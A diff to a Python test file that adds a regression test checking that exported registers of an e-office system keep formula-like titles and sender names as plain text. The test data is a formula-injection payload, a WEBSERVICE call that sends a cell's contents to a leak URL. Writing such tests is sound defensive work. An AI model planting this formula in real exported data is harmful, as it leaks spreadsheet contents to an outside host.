@@ -21,7 +21,7 @@ from openpyxl.worksheet.worksheet import Worksheet
 from eoffice.backends import Backends
 from eoffice.reports.pdf import soffice_path
 from tests.eoffice.factories import login
-from tests.eoffice.reports.conftest import Office, build_outgoing
+from tests.eoffice.reports.conftest import Office, build_outgoing, register
 
 HEADER_ROW = 8
 INCOMING_HEADERS = [
@@ -236,3 +236,15 @@ def test_who_may_export(api: TestClient, office: Office, registers: dict[str, An
     listed = api.get("/api/v1/reports/registers", headers=login(api, office.outsider)).json()
     assert {r["agency_id"] for r in listed} == {office.other_agency.id}
     assert api.get("/api/v1/reports/registers", headers=login(api, office.specialist)).json() == []
+
+
+def test_text_that_looks_like_a_formula_stays_text(
+    api: TestClient, office: Office, registers: dict[str, Any]
+) -> None:
+    """A sender's name or trích yếu such as `=WEBSERVICE(…)` must not become a live formula in the sheet."""
+    formula = '=WEBSERVICE("http://127.0.0.1:9/leak?"&A1)'
+    register(api, login(api, office.clerk), title=formula, issuer=formula)
+    sheet = _sheet(_export(api, office.clerk, registers["incoming"]).content)
+    cells = [c for row in sheet.iter_rows(min_row=HEADER_ROW + 1) for c in row if c.value == formula]
+    assert cells, "the sender's name is written as it came"
+    assert all(c.data_type == "s" for c in cells)
